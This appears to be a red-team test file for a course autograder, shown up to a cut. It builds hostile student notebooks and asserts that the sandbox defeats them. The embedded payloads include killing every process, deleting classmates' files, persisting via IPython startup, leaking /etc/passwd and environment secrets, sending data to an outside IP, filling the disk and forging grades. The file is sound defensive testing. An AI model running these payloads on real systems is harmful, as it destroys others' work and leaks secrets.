"""The red team: every attack on the grader that a student's notebook has been seen to make,
graded in one class of lesson 03 beside honest notebooks that must keep their honest scores.

The class is graded as an instructor would grade it, by the command line, two notebooks at a
time, each in its sandbox. The grader runs from a copy of the package beside a copy of the
course's solutions (``course/notebooks/``), as in a checkout, so that an attack that got
through would harm that copy, never this repository. Each test names the attack it keeps out
(issue 23's list) and what the honest notebooks still get.
"""
import copy
import csv
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))
sys.path.insert(0, str(ROOT / "benchmarks"))
import translations  # noqa: E402
from grade_share import slow_to_read  # noqa: E402  (the benchmark's attack, measured there)

import notebooks  # noqa: E402

# the attacks are on the grader's process and sandbox, not on JAX; the checkers' verdicts, graded,
# are tested on both of CI's runs (tests/test_exercises_*.py): "slow" (conftest.py)
pytestmark = [pytest.mark.skipif(os.uname().sysname != "Linux", reason="the sandbox is Linux's"),
              pytest.mark.slow]
LESSON = "03_autodiff_from_scratch"
SOLUTION, STUDENT = notebooks.editions(ROOT / "lessons" / f"{LESSON}.md")
EXERCISES = 5
SECRET = "redteam-secret-5e3a"  # in the grader's environment, and in a file beside the class
MARKER = "nn-from-scratch-redteam-daemon"


def exercise_cells(nb):
    return [cell for cell in nb.cells if "exercise" in cell.metadata.get("tags", [])]


def attack(first="", every=""):
    """The student edition, with ``first`` added to its first exercise cell and ``every`` to
    each (after the stub: what an attack defines wins)."""
    nb = copy.deepcopy(STUDENT)
    for number, cell in enumerate(exercise_cells(nb)):
        cell.source += "\n" + (first if number == 0 else "") + "\n" + every
    return nb


def replaced(*sources):
    """The student edition with its exercise cells, in order, replaced by ``sources``."""
    nb = copy.deepcopy(STUDENT)
    for cell, source in zip(exercise_cells(nb), sources):
        if source is not None:
            cell.source = source
    return nb


def claims_chinese(nb, language="zh_CN"):
    """``nb`` saying it is the Chinese edition (metadata and first cell), so that the grader
    rebuilds it from the Chinese release; ``language`` may be anything a student writes."""
    from nn_from_scratch.i18n import EDITION_LINES

    nb = copy.deepcopy(nb)
    nb.metadata.setdefault("nn_from_scratch", {})["language"] = language
    first = next(cell for cell in nb.cells if cell.cell_type == "code")
    first.source = EDITION_LINES + "\n" + first.source
    return nb


CHINESE_SOLUTION = translations.translate(SOLUTION, translations.read(
    ROOT / "lessons" / f"{LESSON}.md"))

# Issue 24's forgeries: each once got 5/5 from a grader that checked inside the kernel.
# a child Python, started as matplotlib's "ffmpeg", that computes mul with the library's own
CHILD = ("import nn_from_scratch.autodiff as ad\n"
         "x, y = map(float, open('/tmp/in.txt').read().split())\n"
         "v = ad.mul(ad.Value(x), ad.Value(y))\n"
         "open('/tmp/out.txt', 'w').write(f'{v.data} {v.local_grads[0]} {v.local_grads[1]}')\n")
CHILD_PROGRAM = f"""import pathlib
import matplotlib
import matplotlib.pyplot as plt
from matplotlib import animation
exe = pathlib.Path('/proc/self/cmdline').read_bytes().split(b'\\0')[0].decode()

def mul(a, b):
    pathlib.Path('/tmp/in.txt').write_text(f'{{a.data}} {{b.data}}')
    script = pathlib.Path('/tmp/child.py')
    script.write_text('#!' + exe + '\\n' + {CHILD!r})
    script.chmod(0o755)
    matplotlib.rcParams['animation.ffmpeg_path'] = str(script)
    fig = plt.figure()
    try:
        writer = animation.FFMpegWriter()
        writer.setup(fig, '/tmp/o.mp4')
        writer.finish()
    except Exception:
        pass
    plt.close(fig)
    data, ga, gb = map(float, pathlib.Path('/tmp/out.txt').read_text().split())
    return Value(data, parents=(a, b), local_grads=(ga, gb), op='*')
"""
VERDICT_ATTACKS = {
    # red team, round twelve: the library's Values a check hands over do each exercise's work
    # (their operators and methods run the library's rules; 5/5 with no note before)
    "w_library_values_do_the_work": replaced(
        "def mul(a, b):\n    return a * b",
        "def tanh(a):\n    return a.tanh()",
        "import inspect\ndef topological_order(root):\n"
        "    inspect.getmodule(type(root)).backward(root)\n    order = []\n"
        "    def visit(v):\n        if v not in order:\n"
        "            for parent in v.parents:\n                visit(parent)\n"
        "            order.append(v)\n    visit(root)\n    return order",
        "import inspect\ndef backward(root):\n"
        "    inspect.getmodule(type(root)).grad(lambda: root)()"),
    # a "passed" record carrying a secret found in globals(), then SystemExit before the real one
    "t_forge_record": replaced(
        "import re, sys\nfrom IPython.display import publish_display_data\n"
        "def mul(a, b):\n    for value in list(globals().values()):\n"
        "        if isinstance(value, str) and re.fullmatch('[0-9a-f]{32}', value):\n"
        "            publish_display_data({'application/vnd.nn-from-scratch.grader+json': {"
        "'exercise': '03.1', 'status': 'passed', 'message': 'ok', 'secret': value}})\n"
        "    raise SystemExit"),
    # NumPy's comparisons patched, with wrong answers for 03.4 and 03.5
    "u_patch_numpy": replaced(
        "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
        "numpy.isclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
        "def mul(a, b):\n    return Value(a.data * b.data, parents=(a, b), "
        "local_grads=(1.0, 1.0), op='*')",
        None, None,
        "def backward(root):\n    root.grad = 1.0",
        "def grad(f):\n    return lambda *xs: tuple(0.0 for _ in xs)"),
    # a meta-path finder that serves any checker module as one whose every check passes
    "v_meta_path": replaced(
        "import sys\nModuleSpec = type(sys.modules['numpy'].__spec__)\n"
        "class Passing:\n    def find_spec(self, name, path=None, target=None):\n"
        "        if 'exercises' in name:\n"
        "            return ModuleSpec(name, self)\n"
        "    def create_module(self, spec):\n        return None\n"
        "    def exec_module(self, module):\n"
        "        module.__getattr__ = lambda name: (lambda *a: 'passed')\n"
        "sys.meta_path.insert(0, Passing())\n"
        "for name in [n for n in sys.modules if 'exercises' in n]:\n"
        "    del sys.modules[name]\n"
        "def mul(a, b):\n    raise NotImplementedError"),
    # one-line wrappers around the library's own functions (and the library's own, imported)
    "w_library_wrappers": replaced(
        "def mul(a, b):\n    return check.autodiff.mul(a, b)",
        "def tanh(a):\n    return check.autodiff.tanh(a)",
        "from nn_from_scratch.autodiff import topological_order",
        "import nn_from_scratch.autodiff as ad\n\ndef backward(root):\n    ad.backward(root)",
        "grad = check.autodiff.grad"),
    # NumPy, JAX, builtins, sys.modules, IPython's display and printing patched, records that
    # look like the grader's displayed and printed, and the kernel ended with os._exit
    "x_patch_everything": replaced(
        "import builtins, sys, jax.numpy, numpy\nfrom IPython.display import display\n"
        "jax.numpy.allclose = lambda *a, **k: True\nnumpy.testing = None\n"
        "builtins.abs = lambda x: 0\nbuiltins.float = lambda x=0: 0.0\n"
        "sys.modules['nn_from_scratch.exercises'] = None\n"
        "display({'application/vnd.nn-from-scratch.answer+json': {'value': True}}, raw=True)\n"
        "print('✓ 03.1 mul: passed')\n"
        "def mul(a, b):\n    raise NotImplementedError",
        None, None, None,
        "import os\nos._exit(0)"),
    # issue 26: wrong answers that call themselves the Chinese edition, one with a "language"
    # that is a path, to be rebuilt from a release of their choosing
    "x_chinese_wrong": claims_chinese(replaced(
        "def mul(a, b):\n    return Value(a.data * b.data, parents=(a, b), "
        "local_grads=(1.0, 1.0), op='*')", None, None,
        "def backward(root):\n    root.grad = 1.0",
        "def grad(f):\n    return lambda *xs: tuple(0.0 for _ in xs)")),
    "x_language_path": claims_chinese(STUDENT, language="../../../forged/release"),
    # red team, round nineteen: the library run by a program the notebook starts, whose code
    # the reading never sees (matplotlib's ffmpeg_path names a script of the notebook's own);
    # a graded kernel of a lesson that starts no program can start none
    "w_child_program": replaced(CHILD_PROGRAM),
}


# Issue 35, sections 1 and 2: what the kernel sends is data, read within caps, in a process
# the grader can stop; every byte a kernel sends counts against the output limits.
FORGE = "import nn_from_scratch.grade.answers as answering\n"  # every answer replaced by ...
CHANNEL_ATTACKS = {
    # ... a "named tuple" whose class is numpy.f2py's __main__: importing it read the grader's
    # argv and called sys.exit(), and the whole batch ended with no export written
    "x_namedtuple_exit": attack(first=FORGE + (
        "answering.encode = lambda value, *a, **k: {'t': 'namedtuple', "
        "'ref': 'numpy.f2py.__main__:main', 'v': []}")),
    # ... a dict of 150,000 integer keys with one hash, quadratic to build: 450 s of one check
    "x_colliding_keys": attack(first=FORGE + (
        "forged = {'t': 'dict', 'k': [{'t': 'int', 'v': str(k * (2**61 - 1))} for k in "
        "range(1, 150_001)], 'v': [0] * 150_000}\n"
        "answering.encode = lambda value, *a, **k: forged")),
    # ... a list nested 100 deep, past the wire's cap of 64 (reading cost grew with the depth)
    "x_deep_answer": attack(first=FORGE + (
        "deep = 0\nfor _ in range(100):\n    deep = {'t': 'list', 'v': [deep]}\n"
        "answering.encode = lambda value, *a, **k: deep")),
    # 800 MB of widget buffers, each at a path of its own, which the runner kept every one of
    "x_comm_buffers": attack(first=(
        "from comm import create_comm\nchunk = bytes(8 * 2**20)\n"
        "model = {'_model_module': 'm', '_model_name': 'M', '_model_module_version': '1'}\n"
        "widget = create_comm(target_name='jupyter.widget', data={'state': model})\n"
        "for n in range(100):\n"
        "    widget.send(data={'method': 'update', 'state': {}, 'buffer_paths': [[f'p{n}']]},"
        " buffers=[chunk])")),
}


def markdown_flood(path):
    """22 MB of tiny Markdown cells: preparing it held the loop every kernel shares for 95 s,
    and the honest classmate graded beside it lost a point to "check interrupted"."""
    nb = json.loads(nbformat.writes(STUDENT))
    cell = {"cell_type": "markdown", "metadata": {}, "source": "x"}
    nb["cells"] += [cell] * (22 * 2**20 // len(json.dumps(cell)))
    path.write_text(json.dumps(nb))


def class_folder(tmp, server_port):
    course, klass, results, out = (tmp / name for name in ("course", "class", "results", "out"))
    shutil.copytree(ROOT / "nn_from_scratch", course / "nn_from_scratch",
                    ignore=shutil.ignore_patterns("__pycache__"))
    (course / "notebooks").mkdir()
    shutil.copy(ROOT / "notebooks" / f"{LESSON}.ipynb", course / "notebooks")
    for folder in (klass, results, out, tmp / "ipython"):
        folder.mkdir()
    secret_file = tmp / "secret.txt"
    secret_file.write_text(f"{SECRET}\n")
    steal = (f"import glob, json\nfor path in glob.glob({str(klass)!r} + '/*.ipynb') + "
             f"glob.glob(str(__import__('pathlib').Path(__import__('inspect').getfile(check))"
             f".resolve().parents[2]) + '/notebooks/*.ipynb'):\n"
             f"    try:\n        cells = json.load(open(path))['cells']\n"
             f"    except Exception:\n        continue\n    for cell in cells:\n"
             f"        if 'exercise' in cell['metadata'].get('tags', []):\n"
             f"            try:\n                exec(''.join(cell['source']), globals())\n"
             f"            except Exception:\n                pass")
    startup = "profile_default/startup/00-grade.py"
    daemon = (f"import time\nhoard = b'x' * (1536 * 2**20)\ntime.sleep(30)\n"
              f"open({str(out / 'grades.csv')!r}, 'a').write('i_daemon,5')")
    notebooks_ = {
        "a_honest": SOLUTION,
        # other students' work, and the course's solutions, read and run for full marks
        "b_read_classmates": attack(every=steal),
        # every classmate's notebook overwritten, deleted, or turned into a FIFO
        "c_destroy_classmates": attack(first=(
            f"import glob, os\nfor path in glob.glob({str(klass)!r} + '/*.ipynb'):\n"
            f"    if 'c_destroy' in path:\n        continue\n    try:\n"
            f"        open(path, 'w').write('{{}}')\n        os.remove(path)\n"
            f"        os.mkfifo(path)\n    except OSError:\n        pass")),
        # the package edited on disk: its checkers, the grader's in-kernel module, the release
        "e_edit_package": attack(first=(
            "import pathlib, nn_from_scratch\npackage = pathlib.Path(nn_from_scratch.__file__)"
            ".parent\nfor name, old, new in (('exercises/_core.py', 'result(\"not done\"', "
            "'result(\"passed\"'), ('grade/answers.py', 'value = self.answer(', "
            "'value = None or self.answer('), "
            "('grade/release/03_autodiff_from_scratch.json', 'check.', 'print(')):\n"
            "    try:\n        path = package / name\n"
            "        path.write_text(path.read_text().replace(old, new))\n"
            "    except OSError:\n        pass")),
        # IPython's startup folder, where every later kernel would run it
        "f_ipython_startup": attack(first=(
            f"import os, pathlib\nfor folder in ({str(tmp / 'ipython')!r}, "
            f"os.path.expanduser('~/.ipython')):\n    try:\n"
            f"        path = pathlib.Path(folder) / {startup!r}\n"
            f"        path.parent.mkdir(parents=True, exist_ok=True)\n"
            f"        path.write_text('import math\\nmath.tanh = lambda x: 0.0')\n"
            f"    except OSError:\n        pass")),
        # another kernel found through /proc, connected to, and its maths broken
        "g_other_kernels": attack(first=(
            "import glob, os\nfrom jupyter_client import BlockingKernelClient\n"
            "for cmdline in glob.glob('/proc/*/cmdline'):\n    try:\n"
            "        args = open(cmdline, 'rb').read().split(b'\\0')\n"
            "        connection = args[args.index(b'-f') + 1].decode()\n"
            "        if str(os.getpid()) in cmdline:\n            continue\n"
            "        client = BlockingKernelClient()\n"
            "        client.load_connection_file(connection)\n"
            "        client.start_channels()\n"
            "        client.execute('import math; math.tanh = lambda x: 0.0')\n"
            "    except Exception:\n        pass")),
        # the grader killed, and every other process it can see
        "h_kill_grader": attack(first=(
            "import os, signal\nfor pid in [os.getppid()] + [int(p) for p in os.listdir('/proc')"
            " if p.isdigit()]:\n    if pid != os.getpid():\n        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n        except OSError:\n"
            "            pass")),
        # a daemon that outlives its kernel, holds 1.5 GB past the cap, then edits the CSV
        # (a graded kernel starts no program since round nineteen: then a fork of itself)
        "i_daemon": attack(first=(
            f"import os, subprocess, sys, time\ntry:\n"
            f"    subprocess.Popen([sys.executable, '-c', {daemon!r}, '{MARKER}'], "
            f"start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            f"except OSError:\n    if os.fork() == 0:\n        try:\n            os.setsid()\n"
            f"        except OSError:\n            pass\n        exec({daemon!r})\n"
            f"        os._exit(0)\ntime.sleep(8)")),
        # a forged part file where --merge results/part-*.json would take it
        "j_part_file": attack(first=(
            f"try:\n    open({str(results / 'part-~.json')!r}, 'w').write('{{}}')\n"
            f"except OSError:\n    pass")),
        # the --csv path made a folder, so that nothing is written at the end
        "k_csv_folder": attack(first=(
            f"import os\ntry:\n    os.makedirs({str(out / 'grades.csv')!r})\n"
            f"except OSError:\n    pass")),
        # 1.2 GB of output, and one display bigger than any message may be
        "l_big_output": attack(first=(
            "import sys\nchunk = 'x' * (2 * 2**20)\nfor _ in range(600):\n"
            "    print(chunk)\n    sys.stdout.flush()\n"
            "from IPython.display import display\n"
            "display({'text/plain': 'y' * (100 * 2**20)}, raw=True)")),
        # an exception carrying a file's contents, the environment and terminal escapes
        "m_exception_leak": attack(first=(
            "import os\ndef mul(a, b):\n    raise ValueError('\\x1b[2J' + repr(dict(os.environ)))"
            "\nraise RuntimeError(open('/etc/passwd').read() + repr(dict(os.environ)) + "
            "'\\n\\x1b[31m' + 'A' * 5000)")),
        # the lesson given as a path to a forged release shipped beside the notebook
        "q_lesson_path": forged_lesson(klass),
        # the disk filled from every folder it can write
        "r_fill_disk": attack(first=(
            "import os\nfor folder in (os.path.expanduser('~'), '/tmp', '/dev/shm', '.'):\n"
            "    try:\n        with open(folder + '/fill', 'wb') as f:\n"
            "            for _ in range(64):\n                f.write(bytes(2**24))\n"
            "    except OSError:\n        pass")),
        # the network: the instructor's machine, and the world
        "s_network": attack(first=(
            f"import socket\nfor address in (('127.0.0.1', {server_port}), "
            f"('93.184.215.14', 80)):\n    try:\n"
            f"        socket.create_connection(address, timeout=2).sendall(b'pwned')\n"
            f"    except OSError:\n        pass")),
        **VERDICT_ATTACKS,
        **CHANNEL_ATTACKS,
        # red team, round twelve: the static reading copied its tables at each helper it
        # followed (15,000 helpers, 897,000 characters: 377 s, outside --timeout, in a thread
        # that held the classmate at 3.1x its time)
        "x_heavy_reading": slow_to_read(STUDENT, 5_000),  # 288,000 characters, under the cap
        "x_heavier_reading": slow_to_read(STUDENT, 15_000),  # over it
        "y_stub": STUDENT,
        "z_honest": SOLUTION,
        "z_honest_zh": CHINESE_SOLUTION,  # the Chinese edition, from the Chinese release
    }
    for name, nb in notebooks_.items():
        nbformat.write(nb, klass / f"{name}.ipynb")
    # notebooks malformed where the grader reads them before any kernel runs: the course's
    # metadata a string (the file's name still says the lesson), and a cell whose source is a
    # number, which the JSON allows and nbformat reads; each once stopped the whole class
    bad_metadata = copy.deepcopy(STUDENT)
    bad_metadata.metadata["nn_from_scratch"] = "zh_CN"
    nbformat.write(bad_metadata, klass / f"x_metadata_{LESSON}.ipynb")
    number = json.loads(nbformat.writes(STUDENT))
    number["cells"][next(i for i, c in enumerate(number["cells"]) if c["cell_type"] == "code")][
        "source"] = 5
    (klass / f"x_source_number_{LESSON}.ipynb").write_text(json.dumps(number))
    markdown_flood(klass / f"x_markdown_flood_{LESSON}.ipynb")
    os.symlink(course / "notebooks" / f"{LESSON}.ipynb", klass / "n_symlink_solution.ipynb")
    os.symlink(secret_file, klass / "o_symlink_secret.ipynb")
    os.mkfifo(klass / "p_fifo.ipynb")
    # a file name that is not UTF-8 (red team, round four: it ended the batch, no export at all)
    nbformat.write(STUDENT, os.fsdecode(os.fsencode(klass) + b"/x_name_\xff\xfe.ipynb"))
    return course, klass, results, out


def forged_lesson(klass):
    forged = klass / "forged"
    forged.mkdir()
    (forged / "release.json").write_text(json.dumps({
        "lesson": LESSON, "checker": "autodiff_from_scratch", "cells": []}))
    nb = copy.deepcopy(STUDENT)
    nb.metadata["nn_from_scratch"]["lesson"] = str(forged / "release")
    return nb


def hashes(folder):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*"))
            if p.is_file() and "__pycache__" not in p.parts}


def grade_watching_memory(command, env, cwd, timeout):
    """Run the grader's command line: ``(exit status, stdout, stderr, its peak resident memory
    in bytes)``."""
    grader = subprocess.Popen(command, env=env, cwd=cwd, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
    peak = [0]

    def watch():
        while grader.poll() is None:
            try:
                peak[0] = max(peak[0], psutil.Process(grader.pid).memory_info().rss)
            except psutil.Error:
                pass
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    stdout, stderr = grader.communicate(timeout=timeout)
    watcher.join()
    return grader.returncode, stdout, stderr, peak[0]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    server = socket.create_server(("127.0.0.1", 0))
    heard = []

    def listen():
        server.settimeout(0.5)
        while not stop.is_set():
            try:
                heard.append(server.accept())
            except OSError:
                continue

    stop = threading.Event()
    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    course, klass, results, out = class_folder(tmp, server.getsockname()[1])
    package_before = hashes(course / "nn_from_scratch")
    class_before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
                    for p in klass.glob("*.ipynb") if p.is_file() and not p.is_symlink()
                    and p.name != "p_fifo.ipynb"}
    env = {**os.environ, "PYTHONPATH": str(course), "IPYTHONDIR": str(tmp / "ipython"),
           "NN_REDTEAM_SECRET": SECRET, "TMPDIR": str(tmp)}
    command = [sys.executable, "-m", "nn_from_scratch", "grade", str(klass), "--jobs", "2",
               "--memory", "1G", "--cell-timeout", "30", "--timeout", "150",
               "--json-file", str(results / "part-1.json"), "--csv", str(out / "grades.csv"),
               "--feedback", str(out), "--gradescope", str(out)]
    returncode, stdout, stderr, peak = grade_watching_memory(command, env, tmp, timeout=900)
    stop.set()
    listener.join()
    server.close()
    survivors = [p.pid for p in psutil.process_iter(["cmdline"])
                 if MARKER in " ".join(p.info["cmdline"] or [])]
    results_json = json.loads((results / "part-1.json").read_text())
    return {
        "tmp": tmp, "course": course, "klass": klass, "results": results, "out": out,
        "returncode": returncode, "stdout": stdout, "stderr": stderr,
        "rows": {Path(n["notebook"]).stem: n for n in results_json["notebooks"]},
        "package_before": package_before, "class_before": class_before, "heard": heard,
        "peak": peak, "survivors": survivors, "env": env}


def points(graded, name):
    notebook = graded["rows"][name]
    return sum(row["points"] for row in notebook["rows"])


def statuses(graded, name):
    return [row["status"] for row in graded["rows"][name]["rows"]]


def refused_or_not_done(rows):
    """Whether every row (dicts, or :class:`Row`) is "not done", or refused because the
    attack's cell is more than an exercise may use (an import of os, socket, ctypes...: red
    team, round sixteen), and none earned a point."""
    def get(row, key):
        return row[key] if isinstance(row, dict) else getattr(row, key)
    return all(get(row, "points") == 0 and (get(row, "status") == "not done" or get(
        row, "status") == "failed" and "more than an exercise may use" in get(row, "message"))
        for row in rows) and len(rows) == EXERCISES


def test_the_grader_finishes_and_writes_every_export(graded):
    assert graded["returncode"] == 1, graded["stderr"][-3000:]  # not everything passed
    assert "each in a sandbox" in graded["stderr"]
    assert (graded["out"] / "grades.csv").is_file()  # k_csv_folder made no folder of it
    with open(graded["out"] / "grades.csv", newline="") as f:
        rows = {Path(row["notebook"]).stem: row for row in csv.DictReader(f)}
    assert len(rows) == len(graded["rows"]) == 27 + len(VERDICT_ATTACKS) + len(CHANNEL_ATTACKS)
    assert rows["x_name_\\xff\\xfe"]["total"] == "0"  # graded, under a name every export writes
    assert rows["i_daemon"]["total"] == "0"  # the daemon died with its notebook
    for name in graded["rows"]:
        assert (graded["out"] / f"{name}.md").is_file()
        assert (graded["out"] / f"{name}.json").is_file()


def test_the_honest_notebooks_keep_their_honest_scores(graded):
    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
    assert points(graded, "z_honest_zh") == EXERCISES
    assert statuses(graded, "y_stub") == ["not done"] * EXERCISES
    assert statuses(graded, "x_language_path") == ["not done"] * EXERCISES
    for name in ("a_honest", "z_honest", "z_honest_zh", "y_stub"):
        assert graded["rows"][name]["notes"] == [], name


def test_classmates_work_and_the_solutions_cannot_be_read_or_destroyed(graded):
    """b_read_classmates ran every exercise cell of the class and of course/notebooks;
    c_destroy_classmates overwrote, deleted and turned into FIFOs every other notebook."""
    assert points(graded, "b_read_classmates") == 0
    # its exec(..., globals()) puts every exercise in doubt: the grader cannot read what it bound
    assert statuses(graded, "b_read_classmates") == ["failed"] * EXERCISES
    # (since round fifteen's second look, globals() handed to exec may be kept by the code it
    # runs: every answer in doubt after it too, which the message says)
    assert all("exec() ran after your code for" in row["message"] or re.search(
        r"(globals|exec)\(\) may bind names where the grader cannot see, after any cell",
        row["message"]) or re.search(r"the module \w+ is more than an exercise may use",
                                     row["message"])  # (it imports os: round sixteen)
        for row in graded["rows"]["b_read_classmates"]["rows"])
    after = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in graded["klass"].glob(
        "*.ipynb") if p.is_file() and not p.is_symlink() and p.name != "p_fifo.ipynb"}
    assert after == graded["class_before"]


def test_the_package_cannot_be_changed_for_anyone(graded):
    assert hashes(graded["course"] / "nn_from_scratch") == graded["package_before"]
    assert points(graded, "e_edit_package") == 0
    assert statuses(graded, "y_stub") == ["not done"] * EXERCISES  # graded after it


def test_no_later_kernel_runs_what_one_left_in_ipythons_startup_folder(graded):
    assert not list((graded["tmp"] / "ipython").rglob("*.py"))
    assert points(graded, "z_honest") == EXERCISES  # tanh still tanh


def test_no_kernel_reaches_another_or_the_grader(graded):
    """g_other_kernels looked for connection files in /proc to break its neighbours' tanh;
    h_kill_grader killed its parent and every process it could see."""
    assert points(graded, "g_other_kernels") == 0  # it found and broke only itself
    assert refused_or_not_done(graded["rows"]["h_kill_grader"]["rows"])
    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES


def test_nothing_outlives_its_notebook_nor_escapes_the_memory_cap(graded):
    assert graded["survivors"] == []
    daemon = graded["rows"]["i_daemon"]
    assert "out of memory" in statuses(graded, "i_daemon"), daemon


def test_a_part_file_from_a_kernel_never_reaches_a_merge(graded):
    assert sorted(p.name for p in graded["results"].iterdir()) == ["part-1.json"]
    merged = subprocess.run(
        [sys.executable, "-m", "nn_from_scratch", "grade", str(graded["results"] / "part-1.json"),
         "--merge", "--json"], capture_output=True, text=True, timeout=120, env=graded["env"])
    assert merged.returncode == 1, merged.stderr
    forged = graded["tmp"] / "forged-part.json"
    data = json.loads((graded["results"] / "part-1.json").read_text())
    data["notebooks"][0]["rows"][0]["points"] = 100
    forged.write_text(json.dumps(data))
    refused = subprocess.run(
        [sys.executable, "-m", "nn_from_scratch", "grade", str(forged), "--merge"],
        capture_output=True, text=True, timeout=120, env=graded["env"])
    assert refused.returncode == 2 and "not signed with this grader's key" in refused.stderr


def test_a_flood_of_output_does_not_grow_the_grader(graded):
    assert graded["peak"] < 600 * 2**20, f"the grader grew to {graded['peak'] / 2**20:.0f} MB"
    notes = " ".join(graded["rows"]["l_big_output"]["notes"])
    rows = graded["rows"]["l_big_output"]["rows"]
    refused = len(rows) == 1 and "MB of messages, and the grader reads at most" in rows[0][
        "message"]  # 1.2 GB sent: past MAX_BYTES, refused at once (since the early end)
    assert "the rest was dropped" in notes or "out of memory" in statuses(
        graded, "l_big_output") or refused, (notes, rows)


def test_what_a_submission_says_is_shown_as_one_clean_line_without_secrets(graded):
    exports = [graded["out"] / "grades.csv", graded["results"] / "part-1.json",
               *graded["out"].glob("*.md"), *graded["out"].glob("*.json")]
    for path in exports:
        text = path.read_text()
        assert SECRET not in text and "\x1b" not in text, path
    for notebook in graded["rows"].values():
        for row in notebook["rows"]:
            assert len(row["message"]) <= 600 and "\n" not in row["message"], row


def test_links_pipes_and_lesson_paths_are_refused_before_anything_runs(graded):
    rows = graded["rows"]
    assert "symbolic link" in rows["n_symlink_solution"]["rows"][0]["message"]
    assert "symbolic link" in rows["o_symlink_secret"]["rows"][0]["message"]
    assert "not a regular file" in rows["p_fifo"]["rows"][0]["message"]
    assert "cannot tell which lesson" in rows["q_lesson_path"]["rows"][0]["message"]
    for name in ("n_symlink_solution", "o_symlink_secret", "p_fifo", "q_lesson_path"):
        assert points(graded, name) == 0


def test_a_malformed_notebook_is_one_error_row_and_the_class_goes_on(graded):
    rows = graded["rows"]
    assert statuses(graded, f"x_metadata_{LESSON}") == \
        ["not done"] * EXERCISES  # its lesson from its name, graded like any stub
    broken = rows[f"x_source_number_{LESSON}"]["rows"]
    assert len(broken) == 1 and broken[0]["status"] == "error"
    assert "could not be prepared (AttributeError" in broken[0]["message"]
    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES


def test_the_disk_and_the_network_are_out_of_reach(graded):
    assert graded["heard"] == []  # nothing connected to the instructor's machine
    assert refused_or_not_done(graded["rows"]["s_network"]["rows"])
    assert refused_or_not_done(graded["rows"]["r_fill_disk"]["rows"])
    big = [p for p in graded["tmp"].rglob("*") if p.is_file() and p.stat().st_size > 2**24
           and p.name != f"x_markdown_flood_{LESSON}.ipynb"]  # handed in, not written
    assert big == []
    assert not list(graded["tmp"].glob("nn-from-scratch-grade-*"))  # the private folder is gone


def test_no_code_in_a_submission_changes_a_verdict(graded):
    """Issue 24's forgeries and every patch a kernel can make: the verdicts are decided in the
    grader's process on values the kernel computed, so each is a wrong answer, or the
    library's own, and no attacker earns a point; the honest notebooks keep theirs."""
    for name in VERDICT_ATTACKS:
        assert points(graded, name) == 0, (name, graded["rows"][name]["rows"])
    forged = graded["rows"]["t_forge_record"]["rows"]
    # its mul reads globals(), and it imports what an exercise may not (IPython.display's
    # publisher): found in the source before it runs (SystemExit crossing the channel is
    # tested in test_grade_wire.py)
    assert forged[0]["status"] == "failed" and (
        "uses globals()" in forged[0]["message"]
        or "is more than an exercise may use" in forged[0]["message"]), forged
    patched = statuses(graded, "u_patch_numpy")
    assert patched[0] == patched[3] == patched[4] == "failed", patched
    done_by_the_library = graded["rows"]["w_library_values_do_the_work"]["rows"]
    assert [row["message"].split(" calls the library's ")[-1].split(":")[0]
            for row in done_by_the_library[:2]] == ["mul", "tanh"], done_by_the_library
    # 03.3 and 03.4: the graph's Values are also the notebook's own since a student's walk
    # (round fourteen), so inspect.getmodule(type(root)) is the notebook's, with no backward
    # of the library's: refused as it raises, or as it calls the library's
    for row, name in zip(done_by_the_library[2:4], ("topological_order", "backward")):
        assert row["points"] == 0 and (f"calls the library's {name}" in row["message"]
                                       or "raised AttributeError" in row["message"]
                                       or "the module inspect is more than an exercise may use"
                                       in row["message"]), row  # (round sixteen)
    copies = graded["rows"]["w_library_wrappers"]["rows"]
    assert [row["message"] for row in copies] == [
        f"this is the library's own {name}; write your own"
        for name in ("mul", "tanh", "topological_order", "backward", "grad")]
    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
    child = graded["rows"]["w_child_program"]["rows"][0]  # the program never started
    assert "out.txt" in child["message"], child


def test_what_a_kernel_sends_is_read_as_data_within_caps_and_time(graded):
    """Issue 35, section 1: a "named tuple" naming a module to import, 150,000 keys with one
    hash, an answer nested 100 deep: each a wrong answer, at once, in a checker process the
    grader can stop; the batch goes on and every export is written."""
    for name in ("x_namedtuple_exit", "x_colliding_keys", "x_deep_answer"):
        assert points(graded, name) == 0, (name, graded["rows"][name]["rows"])
        seconds = graded["rows"][name]["seconds"]
        assert seconds["checks"] < 60, (name, seconds)  # one check of colliding keys took 450 s
    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES


def test_tiny_markdown_cells_by_the_megabyte_are_refused_and_delay_no_classmate(graded):
    flood = graded["rows"][f"x_markdown_flood_{LESSON}"]["rows"]
    assert len(flood) == 1 and flood[0]["status"] == "error"
    assert "JSON values, and the grader reads at most" in flood[0]["message"]
    for name in ("a_honest", "z_honest", "z_honest_zh"):  # no "check interrupted", no note
        assert points(graded, name) == EXERCISES and graded["rows"][name]["notes"] == [], name


def test_code_that_is_slow_to_read_is_read_apart_and_within_caps(graded):
    """Red team, round twelve: preparing runs in a process of its own, within its time, and a
    notebook past MAX_SOURCE characters is refused before it is read. Beside the notebook
    under the cap (288,000 characters, 7 s to read), the classmate took 1.02-1.13x its time
    alone, and 1.79-2.07x read in a thread (``benchmarks/grade_share.py --attack reading``)."""
    assert statuses(graded, "x_heavy_reading") == ["not done"] * EXERCISES, \
        graded["rows"]["x_heavy_reading"]["rows"]
    heavier = graded["rows"]["x_heavier_reading"]["rows"]
